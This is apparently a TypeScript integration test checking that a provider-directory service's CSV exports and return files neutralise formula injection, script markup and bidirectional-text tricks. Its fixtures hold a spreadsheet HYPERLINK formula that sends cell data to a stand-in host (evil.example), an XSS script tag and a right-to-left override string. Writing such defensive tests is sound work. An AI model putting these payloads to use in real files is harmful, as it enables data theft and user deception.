import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { openTestApp, type TestApp } from './app.testing.ts'
import { exportJob, openExportStorage } from './exports/exports.service.ts'
import { ingestJob } from './ingest/ingest.service.ts'
import { runWorker } from './jobs/worker.ts'
import { paths } from './paths.ts'

const tenant = 'mddoh'
let test: TestApp
let stopWorker: () => Promise<void>
beforeAll(async () => {
  test = await openTestApp({ providers: 5 })
  const { database, settings } = test.parts
  const { dataDir } = settings
  const now = () => new Date()
  const stop = new AbortController()
  const jobs = [
    ingestJob.bind({ database, dataDir, gazetteer: paths.gazetteer, now }),
    exportJob.bind({ database, dataDir, storage: openExportStorage(settings), exportFileDays: 7, now }),
  ]
  const worker = runWorker(database, jobs, { signal: stop.signal, lanes: ['long', 'exports'], pollMs: 20 })
  stopWorker = () => {
    stop.abort()
    return worker
  }
}, 120_000)
afterAll(async () => {
  await stopWorker()
  await test.close()
})

async function call<T>(method: 'GET' | 'POST', url: string, payload?: object): Promise<T> {
  const headers = { 'x-tenant-id': tenant, ...(await test.staff('tenant-admin', [tenant])) }
  const answer = await test.app.inject({ method, url: `/api${url}`, headers, ...(payload && { payload }) })
  expect(answer.statusCode, answer.body).toBeLessThan(300)
  return String(answer.headers['content-type']).startsWith('application/json') ? answer.json<T>() : (answer.body as T)
}

/** Asks until it is done. */
async function until<T>(ask: () => Promise<T>, isDone: (answer: T) => boolean): Promise<T> {
  for (;;) {
    const answer = await ask()
    if (isDone(answer)) return answer
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}

async function exported(kind: string): Promise<string> {
  const { taskId } = await call<{ taskId: string }>('POST', '/export/export-tasks', { kind })
  await until(
    () => call<{ status: string }>('GET', `/export/export-tasks/${taskId}`),
    ({ status }) => status === 'COMPLETED',
  )
  const { url } = await call<{ url: string }>('GET', `/downloadUrl?exportTaskId=${taskId}`)
  const { pathname, search } = new URL(url)
  return (await test.app.inject({ url: pathname + search })).body
}

const formula = '=HYPERLINK("http://evil.example?"&A1,"Pay")'
const markup = '<script>alert("1")</script>'
const turned = '\u202Emoc.live\u2066'
const statement = (id: string, family: string) =>
  JSON.stringify({
    id,
    kind: 'provider',
    asserted: '2026-02-01',
    head: { name: [{ given: ['+Ann'], family }] },
    relations: [
      {
        id: `${id}-office`,
        location: {
          name: ['@Harbor\r\nHeart'],
          address: { line: ['-700 N "Charles" St'], city: '\t=Baltimore', state: 'MD', postalCode: '21201' },
        },
      },
    ],
  })

/** Its state does not exist. */
const rejected = [
  'ID,Last Name,First Name,Address,City,State,Zip,=Phone',
  `301,"${formula.replaceAll('"', '""')}","${markup.replaceAll('"', '""')}",@1 Main St,"\t-City",=XX,21201,+1`,
]

async function load(format: 'ndjson' | 'roster', lines: readonly string[]): Promise<string> {
  const content = Buffer.from(lines.join('\n'))
  const { uploadId } = await call<{ uploadId: string }>('POST', '/loads/uploads', {
    fileName: `=r.${format}`,
    bytes: content.length,
  })
  const headers = { 'x-tenant-id': tenant, ...(await test.staff('tenant-admin', [tenant])) }
  await test.app.inject({
    method: 'PUT',
    url: `/api/loads/uploads/${uploadId}?offset=0`,
    headers: { ...headers, 'content-type': 'application/octet-stream' },
    payload: content,
  })
  const body = { source: format, format, mode: 'delta', uploadId }
  const { taskId } = await call<{ taskId: string }>('POST', '/clarity/queue-task', body)
  await until(
    () => call<{ state: string }>('GET', `/loads/${taskId}`),
    ({ state }) => state === 'done',
  )
  return taskId
}

/** What a spreadsheet by RFC 4180 shows; it runs none of it. */
function cellsOf(file: string): string[] {
  const cells = parse(file, { bom: true }).flat() as string[] // Without columns, lines of texts.
  expect(cells.filter((cell) => /^[\s\p{Cf}]*[=+\-@]|^[\t\r\n]/u.test(cell))).toEqual([])
  return cells
}

it('[API-EXP-03] no text of a source or of staff runs in a downloaded file, and none breaks it', async () => {
  await load('ndjson', [statement('h1', formula), statement('h2', `${turned}${markup}`)])
  const directory = cellsOf(await exported('directory-csv'))
  for (const text of [formula, markup, 'Harbor']) expect(directory.join('\n')).toContain(text)

  const reason = `${formula}\u202E`
  const { records } = await call<{ records: { stableId: string }[] }>('GET', '/data-stewardship/records?q=Ann&limit=1')
  const stableId = records[0]?.stableId ?? ''
  const correction = { field: 'gender', oldValue: null, value: 'female', reason, pin: 'always' }
  await call('POST', `/data-stewardship/records/${encodeURIComponent(stableId)}/corrections`, correction)
  expect(cellsOf(await exported('audit-trail-csv')).join('\n')).toContain(formula)

  const loadId = await load('roster', rejected)
  const returned = cellsOf(await call<string>('GET', `/loads/${loadId}/return-file`))
  expect(returned.join('\n')).toContain(formula)
  expect(returned).toContain("'=XX")
})
